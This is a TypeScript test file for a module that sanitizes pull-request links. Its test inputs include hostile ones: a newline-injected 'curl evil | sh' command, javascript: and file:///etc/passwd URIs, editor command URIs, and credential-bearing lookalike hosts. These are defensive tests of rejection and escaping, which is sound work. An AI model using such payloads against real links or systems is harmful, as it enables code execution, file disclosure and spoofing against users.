import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  copiedLink,
  isOpenable,
  localReview,
  pullRequestName,
  safeLink,
} from '../../../../src/extension/platform/pullRequestLink';
import { hostileLinks, LOOKALIKES, REWRITTEN_HOSTS } from '../../../support/hostileText';
import { report } from '../../../support/scale';
import { snapshot, trackedJob } from '../../../support/trackedJob';

describe('copiedLink', () => {
  it('is one line without invisible characters, and otherwise unchanged', () => {
    assert.equal(copiedLink('https://h/a?b=%20c#ä'), 'https://h/a?b=%20c#ä');
    assert.equal(copiedLink('https://h/1\ncurl evil | sh\r\n'), 'https://h/1%0Acurl%20evil%20|%20sh%0D%0A');
    assert.equal(copiedLink('https://h/\u202e\u{e0041}'), 'https://h/%E2%80%AE%F3%A0%81%81');
    assert.equal(copiedLink(null), null);
  });
});

describe('safeLink', () => {
  const allowed = [
    'https://github.com/o/r/pull/1',
    'https://gitlab.example:8443/o/r/-/merge_requests/2?x=1#note',
    'HTTPS://GitHub.com/o/r/pull/1',
    'http://127.0.0.1:4100/review/abc',
    'http://127.9.9.9/',
    'http://localhost:4100/',
    'http://[::1]:4100/',
    'https://xn--bcher-kva.example/',
    'https://forge.example:443/',
  ];
  for (const link of allowed) {
    it(`accepts ${link}`, () => assert.equal(safeLink(link)?.href, new URL(link).href));
  }

  const refused = [
    'http://github.com/o/r/pull/1',
    'http://127.0.0.1.evil.example/',
    'http://localhost.evil.example/',
    'http://localhost./',
    'http://0.0.0.0/',
    'http://192.168.0.1/',
    'http://[::ffff:127.0.0.1]/',
    'https://github.com@evil.example/',
    'https://user:word@github.com/',
    'https://:word@github.com/',
    'http://me@127.0.0.1/',
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'file:///etc/passwd',
    'command:workbench.action.quit',
    'vscode://publisher.extension/path',
    'vscode-insiders://x/y',
    'data:text/html,x',
    'ftp://example.org/',
    'ssh://git@github.com/o/r',
    'blob:https://github.com/x',
    'view-source:https://github.com/',
    '//github.com/o/r',
    'github.com/o/r/pull/1',
    '/o/r/pull/1',
    'https://',
    'https:///',
    '',
    'null',
  ];
  for (const link of [...refused, ...REWRITTEN_HOSTS]) {
    it(`rejects ${JSON.stringify(link)}`, () => assert.equal(safeLink(link), undefined));
  }

  it('rejects a link that is longer than any that is kept', () => {
    assert.equal(safeLink(`https://h.example/${'a'.repeat(2_000)}`), undefined);
  });

  it('rejects each of 200 hostile addresses', () => {
    const links = [...new Set(hostileLinks())];
    assert.ok(links.length >= 200, `${links.length} addresses`);
    const opened = links.filter((link) => safeLink(link) !== undefined);
    assert.deepEqual(opened, []);
    report({ promise: 'S7', what: `${links.length} hostile addresses`, figure: `${opened.length} would be opened` });
  });

  it('returns the host that is actually opened for lookalike addresses', () => {
    for (const [link, host] of LOOKALIKES) {
      assert.equal(safeLink(link)?.host, host);
    }
  });

  it('rejects values that are not text', () => {
    assert.equal(safeLink(null), undefined);
    assert.equal(safeLink(undefined), undefined);
  });

  it('returns a web address without user info, or nothing, for any text', () => {
    const scheme = fc.constantFrom('https:', 'http:', 'file:', 'vscode:', 'javascript:', 'HTTP:', '\thttps:');
    const between = fc.constantFrom('//', '/', '\\\\', '');
    const link = fc.oneof(
      fc.webUrl(),
      fc.tuple(scheme, between, fc.string({ unit: 'binary' })).map((all) => all.join('')),
    );
    fc.assert(
      fc.property(link, (text) => {
        const url = safeLink(text);
        if (url !== undefined) {
          assert.match(url.href, /^(?:https:\/\/[^/@]+\/|http:\/\/(?:localhost|127\.[\d.]+|\[::1\])(?::\d+)?\/)/);
          assert.equal(url.username + url.password, '');
        }
      }),
      { numRuns: 2000 },
    );
  });
});

describe('isOpenable', () => {
  it('accepts a page on this machine only from a service on this machine', () => {
    const isOpenableFrom = (service: string, link: string) => isOpenable(link, { service, projectId: 'docs' });
    const page = 'http://127.0.0.1:4100/review/abc';
    assert.equal(isOpenableFrom('local', page), true);
    assert.equal(isOpenableFrom('http://localhost:8080', page), true);
    assert.equal(isOpenableFrom('https://service.example', page), false);
    assert.equal(isOpenableFrom('https://service.example', 'https://forge.example/1'), true);
    assert.equal(isOpenableFrom('local', 'http://forge.example/1'), false);
  });
});

describe('the name of a pull request', () => {
  const nameOf = (prLink: string): string =>
    pullRequestName(trackedJob({ snapshot: snapshot('completed', { prLink }) }));

  it('is short, and empty for a review page or an unsafe link', () => {
    assert.equal(nameOf('https://github.com/acme/docs/pull/12/files?x=1#note'), 'acme/docs#12');
    assert.equal(
      nameOf('https://gitlab.example:8443/o/r/-/merge_requests/2?x=1#note'),
      'gitlab.example:8443/o/r/-/merge_requests/2',
    );
    assert.equal(nameOf(`https://forge.example/${'a/'.repeat(100)}pulls/7`).length, 80);
    assert.equal(nameOf('http://127.0.0.1:4100/review/j'), '');
    assert.equal(nameOf('javascript:alert(1)'), '');
  });
});

describe('review page of a job', () => {
  const job = (prLink: string | null, service = 'local') =>
    trackedJob({ location: { service, projectId: 'p' }, snapshot: snapshot('completed', { prLink }) });

  it('is recognized by its link', () => {
    assert.equal(localReview(job('http://127.0.0.1:4100/review/j')), 'j');
  });

  it('is not confused with a local pull request, a hosted service or another job', () => {
    assert.equal(localReview(job('http://127.0.0.1:3000/robin/docs/pulls/1')), undefined);
    assert.equal(localReview(job('https://github.com/acme/docs/pull/1')), undefined);
    assert.equal(localReview(job('http://127.0.0.1:4100/review/j', 'https://api.example')), undefined);
    assert.equal(localReview(job('http://127.0.0.1:4100/review/another')), undefined);
    assert.equal(localReview(job(null)), undefined);
    assert.equal(localReview(trackedJob()), undefined);
  });
});
